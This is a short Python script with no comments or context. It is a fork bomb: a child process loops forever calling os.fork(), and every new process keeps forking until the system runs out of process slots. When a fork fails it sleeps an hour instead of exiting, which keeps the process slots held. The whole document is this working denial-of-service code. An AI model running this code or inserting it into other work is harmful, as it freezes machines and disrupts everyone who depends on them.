import os, time
try:
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(3600)
except OSError:
    pass
